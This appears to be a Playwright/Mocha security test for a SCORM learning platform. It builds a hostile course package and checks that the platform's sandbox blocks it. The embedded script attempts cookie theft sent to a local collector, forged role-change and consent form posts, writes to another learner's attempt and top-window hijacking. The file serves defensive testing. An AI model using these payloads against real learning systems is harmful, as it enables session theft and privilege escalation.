import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import { ZipArchive } from 'archiver';
import { expect } from 'chai';
import type { Browser, Frame, Page } from 'playwright-core';
import { launchBrowser } from '../../test/support/browser';
import { TEST_DB } from '../../test/support/database';
import { addUser, startTestServer, type TestServer } from '../../test/support/server';
import { importPackage } from './service';
import { runsOnThisPass } from '../../test/support/one-pass';

const PASSWORD = 'demo-learning-2026';

/**
 * The script of a hostile SCORM package: everything issue 19 saw content do
 * with the viewer's rights, and more. It records what each try got, for the
 * test to read; the test then checks the product itself, the requests the
 * browser made and the collector, not only what the script saw.
 */
function hostileScript(o: { product: string; collector: string; authorId: string; otherAttempt: string }): string {
  return `
(async () => {
  const P = ${JSON.stringify(o.product)}, C = ${JSON.stringify(o.collector)}, AUTHOR = ${JSON.stringify(o.authorId)}, OTHER = ${JSON.stringify(o.otherAttempt)};
  const r = {};
  const tryIt = async (name, fn) => { try { r[name] = String(await fn()); } catch (e) { r[name] = 'blocked: ' + (e && e.name); } };
  const noCors = (url, init) => fetch(url, Object.assign({ mode: 'no-cors', credentials: 'include' }, init)).then((res) => 'sent ' + res.type);
  await tryIt('api', () => (window.parent.API ? window.parent.API.LMSInitialize('') : 'no API'));
  await tryIt('cookie', () => document.cookie);
  await tryIt('ownOriginAdminPage', async () => { const res = await fetch('/admin/users/' + AUTHOR, { credentials: 'include' }); return res.status + ' ' + (await res.text()).slice(0, 60); });
  await tryIt('productAdminPage', async () => { const res = await fetch(P + '/admin/users/' + AUTHOR, { credentials: 'include' }); return res.status + ' ' + (await res.text()).slice(0, 60); });
  await tryIt('productApi', async () => { const res = await fetch(P + '/api/v1/staff', { credentials: 'include' }); return res.status + ' ' + (await res.text()).slice(0, 60); });
  await tryIt('roleChange', () => noCors(P + '/admin/users/' + AUTHOR + '/roles', { method: 'POST', body: new URLSearchParams({ role: 'partnership-admin' }) }));
  await tryIt('passport', () => noCors(P + '/passport', { method: 'POST', body: new URLSearchParams({ decision: 'share', transferId: OTHER }) }));
  await tryIt('otherAttemptCommit', () => noCors(P + '/scorm/attempts/' + OTHER + '/commit', { method: 'POST', body: JSON.stringify({ sco: 'x', sequence: 9e15, cmi: { 'cmi.core.lesson_status': 'failed' } }) }));
  const cap = location.pathname.split('/')[3];
  const parts = cap.split('.');
  const forged = [parts[0], OTHER, parts[2], parts[3], parts[4]].join('.');
  await tryIt('forgedCapabilityFile', async () => (await fetch('/scorm/c/' + forged + '/hostile.html')).status);
  await tryIt('forgedLastWords', async () => (await fetch('/scorm/last-words/' + forged, { method: 'POST', body: JSON.stringify({ sco: 'x', sequence: 9e15, cmi: { 'cmi.core.lesson_status': 'failed' } }) })).status);
  await tryIt('exfiltrateFetch', () => noCors(C + '/fetch?c=' + encodeURIComponent(document.cookie)));
  await tryIt('exfiltrateImage', () => new Promise((done) => { const i = new Image(); i.onload = () => done('loaded'); i.onerror = () => done('error'); i.src = C + '/image'; }));
  await tryIt('exfiltrateBeacon', () => navigator.sendBeacon(C + '/beacon', 'data'));
  await tryIt('topDom', () => top.document.title);
  await tryIt('topCookie', () => top.document.cookie);
  await tryIt('playerApi', () => typeof top.API + ' ' + top.API.LMSGetValue('cmi.core.student_id'));
  await tryIt('popup', () => String(window.open(C + '/popup')));
  await tryIt('topLocation', () => { top.location = C + '/top'; return 'assigned'; });
  await tryIt('topLocationHref', () => { top.location.href = C + '/top-href'; return 'assigned'; });
  await tryIt('formRole', () => {
    const sink = document.createElement('iframe');
    sink.name = 'sink';
    document.body.appendChild(sink);
    const f = document.createElement('form');
    f.method = 'post';
    f.action = P + '/admin/users/' + AUTHOR + '/roles';
    f.target = 'sink';
    const i = document.createElement('input');
    i.name = 'role';
    i.value = 'partnership-admin';
    f.appendChild(i);
    document.body.appendChild(f);
    f.submit();
    return 'submitted';
  });
  await tryIt('formPassportTop', () => {
    const f = document.createElement('form');
    f.method = 'post';
    f.action = P + '/passport';
    f.target = '_top';
    document.body.appendChild(f);
    f.submit();
    return 'submitted';
  });
  await new Promise((done) => setTimeout(done, 500));
  window.__hostile = r;
})();`;
}

async function hostilePackage(o: Parameters<typeof hostileScript>[0]): Promise<string> {
  const manifest = `<?xml version="1.0"?>
<manifest identifier="hostile.package" version="1" xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2">
  <metadata><schema>ADL SCORM</schema><schemaversion>1.2</schemaversion></metadata>
  <organizations default="o"><organization identifier="o"><title>Safeguarding refresher</title>
    <item identifier="i1" identifierref="r1"><title>Refresher</title></item>
  </organization></organizations>
  <resources><resource identifier="r1" type="webcontent" adlcp:scormtype="sco" href="hostile.html"><file href="hostile.html"/></resource></resources>
</manifest>`;
  const html = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Refresher</title></head><body><h1>Refresher</h1><script>${hostileScript(o)}</script></body></html>`;
  const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'hostile-')), 'hostile.zip');
  const archive = new ZipArchive();
  const out = fs.createWriteStream(file);
  const closed = new Promise<void>((resolve) => out.on('close', () => resolve()));
  archive.pipe(out);
  archive.append(manifest, { name: 'imsmanifest.xml' });
  archive.append(html, { name: 'hostile.html' });
  await archive.finalize();
  await closed;
  return file;
}

// What this proves does not depend on the database: it runs on one CI pass only.
describe(`hostile SCORM content in Chromium (${TEST_DB})`, function () {
  this.timeout(180_000);
  let server: TestServer;
  let browser: Browser;
  let collector: http.Server;
  let collectorUrl: string;
  const collected: string[] = [];
  let author: { id: string; email: string };
  let otherAttempt: string;
  let courseSlug: string;

  const sql = async <T>(text: string, params: unknown[] = []) => (await server.product.database.pool.query(text, params)).rows as T[];

  before(async function () {
    if (!runsOnThisPass('postgres')) this.skip();
    // Somewhere outside the product that the content would like to send what it found.
    collector = http.createServer((req, res) => {
      collected.push(`${req.method} ${req.url}`);
      res.end('ok');
    });
    await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve));
    collectorUrl = `http://127.0.0.1:${(collector.address() as { port: number }).port}`;
    server = await startTestServer({ demo: true });
    // The package's author: an ordinary learner who would like to be a partnership admin.
    author = await addUser(server, 'learner', { name: 'Package Author' });
    // Another learner's attempt, which the content tries to write to.
    const other = await addUser(server, 'learner');
    const { rows } = await server.product.database.pool.query<{ id: string }>(
      `insert into scorm_attempts (user_id, course_id, package_version_id)
       select $1, c.id, v.id from courses c join scorm_packages p on p.course_id = c.id join scorm_package_versions v on v.package_id = p.id
        where c.slug = 'domestic-abuse-awareness' limit 1 returning id`,
      [other.id],
    );
    otherAttempt = rows[0].id;
    const zip = await hostilePackage({ product: server.url, collector: collectorUrl, authorId: author.id, otherAttempt });
    const imported = await importPackage({ config: server.product.config, database: server.product.database }, zip);
    courseSlug = imported.courseSlug;
    browser = await launchBrowser();
  });
  after(async () => {
    await browser?.close();
    await server?.close();
    collector?.close();
  });

  async function signedIn(email: string): Promise<Page> {
    const context = await browser.newContext();
    const page = await context.newPage();
    page.on('dialog', (d) => d.dismiss());
    await page.goto(`${server.url}/sign-in`);
    await page.fill('#email', email);
    await page.fill('#password', PASSWORD);
    await Promise.all([page.waitForURL((u) => !u.pathname.startsWith('/sign-in')), page.click('button[type=submit]:has-text("Sign in")')]);
    return page;
  }

  /** Plays the package as this person; everything the browser asked for on the way, and what the content found. */
  async function play(page: Page) {
    // Requests that went out and were answered; Chromium stops the content's others before they leave.
    const requests: { url: string; from: string }[] = [];
    const blocked: { url: string; error: string }[] = [];
    const from = (request: import('playwright-core').Request) => {
      try {
        return request.frame().url();
      } catch {
        return ''; // a request of no frame
      }
    };
    page.context().on('requestfinished', (request) => requests.push({ url: request.url(), from: from(request) }));
    page.context().on('requestfailed', (request) => blocked.push({ url: request.url(), error: request.failure()?.errorText ?? '' }));
    const before = {
      roles: await sql(`select role, organisation_id from user_roles where user_id = $1 order by role`, [author.id]),
      audit: await sql<{ n: number }>(`select count(*)::int as n from audit_log where action like 'role.%' or action like 'passport.%'`),
      other: await sql(`select a.status, s.cmi from scorm_attempts a left join scorm_sco_states s on s.attempt_id = a.id where a.id = $1`, [otherAttempt]),
    };
    const playerUrl = `${server.url}/courses/${courseSlug}/play`;
    await page.goto(playerUrl);
    const sco = await waitForFrame(page, (f) => /\/scorm\/c\/[^/]+\/hostile\.html$/.test(f.url()));
    await sco.waitForFunction(() => !!(window as unknown as { __hostile?: unknown }).__hostile, undefined, { timeout: 30_000 });
    const found = await sco.evaluate(() => (window as unknown as { __hostile: Record<string, string> }).__hostile);
    // Anything slow to arrive (a navigation, a beacon) has had time to.
    await page.waitForTimeout(1000);
    const after = {
      roles: await sql(`select role, organisation_id from user_roles where user_id = $1 order by role`, [author.id]),
      audit: await sql<{ n: number }>(`select count(*)::int as n from audit_log where action like 'role.%' or action like 'passport.%'`),
      other: await sql(`select a.status, s.cmi from scorm_attempts a left join scorm_sco_states s on s.attempt_id = a.id where a.id = $1`, [otherAttempt]),
    };
    return { found, requests, blocked, before, after, playerUrl, sco };
  }

  async function waitForFrame(page: Page, test: (f: Frame) => boolean): Promise<Frame> {
    for (let i = 0; i < 150; i++) {
      const f = page.frames().find(test);
      if (f) return f;
      await page.waitForTimeout(200);
    }
    throw new Error('the content frame did not load');
  }

  function expectNothingReached(run: Awaited<ReturnType<typeof play>>, page: Page) {
    const { found, requests, blocked, before, after, playerUrl } = run;
    const product = new URL(server.url).origin;
    // The content ran, and had its own SCORM API through the bridge.
    expect(found.api).to.equal('true');
    // It found no cookie, and nothing of the product's on its own origin.
    expect(found.cookie).to.equal('');
    expect(found.ownOriginAdminPage).to.match(/^404 /);
    // Every way to the product, the outside, the top window or another attempt was closed.
    for (const name of [
      'productAdminPage',
      'productApi',
      'roleChange',
      'passport',
      'otherAttemptCommit',
      'exfiltrateFetch',
      'topDom',
      'topCookie',
      'playerApi',
    ]) {
      expect(found[name], name).to.match(/^blocked: /);
    }
    expect(found.exfiltrateImage).to.equal('error');
    expect(found.popup).to.equal('null');
    // Navigating the top window, beacons and form posts are judged by what happened, below.
    expect(found.forgedCapabilityFile).to.equal('404');
    expect(found.forgedLastWords).to.equal('404');
    // Nothing the content did reached the product or the collector: the browser never even asked.
    const fromContent = requests.filter((r) => r.from.startsWith('http://content.localhost:'));
    expect(fromContent.length, 'the content loaded its own files').to.be.greaterThan(0);
    expect(fromContent.filter((r) => !r.url.startsWith('http://content.localhost:')).map((r) => r.url)).to.deep.equal([]);
    expect(collected, 'what the collector received').to.deep.equal([]);
    expect(requests.filter((r) => r.url.startsWith(collectorUrl)).map((r) => r.url)).to.deep.equal([]);
    for (const b of blocked.filter((r) => r.url.startsWith(collectorUrl))) expect(b.error, b.url).to.match(/BLOCKED|^csp$/);
    expect(requests.filter((r) => r.url.startsWith(product) && /\/(admin|api|passport)/.test(new URL(r.url).pathname)).map((r) => r.url)).to.deep.equal([]);
    // The product is as it was: no role granted, no passport decision, the other attempt untouched.
    expect(after.roles).to.deep.equal(before.roles);
    expect(after.audit).to.deep.equal(before.audit);
    expect(after.other).to.deep.equal(before.other);
    // The top window stayed where it was, and no other window opened.
    expect(page.url()).to.equal(playerUrl);
    expect(page.context().pages()).to.have.length(1);
  }

  it('an admin previewing the package: it cannot read the admin pages, grant a role, send anything away or move the window', async () => {
    const page = await signedIn('admin@vale-partnership.example');
    const run = await play(page);
    expectNothingReached(run, page);
    expect((await sql<{ status: string }>(`select status from courses where slug = $1`, [courseSlug]))[0].status, 'a draft, seen only in preview').to.equal(
      'draft',
    );
    await page.context().close();
  });

  it('a learner taking the package: it cannot read their record or the API, post as them, or reach another attempt', async () => {
    await sql(`update courses set status = 'published' where slug = $1`, [courseSlug]);
    const page = await signedIn('learner@valecounty.example');
    const run = await play(page);
    expectNothingReached(run, page);
    // Last of all, the content tries to send its frame away to the collector: the sandbox refuses it.
    const leaving = await run.sco.evaluate((url) => {
      try {
        window.parent.location.href = `${url}/frame`;
        return 'assigned';
      } catch (e) {
        return `blocked: ${(e as Error).name}`;
      }
    }, collectorUrl);
    expect(leaving).to.equal('blocked: SecurityError');
    await page.waitForTimeout(1000);
    expect(collected).to.deep.equal([]);
    expect(page.url()).to.equal(run.playerUrl);
    await page.context().close();
  });
});
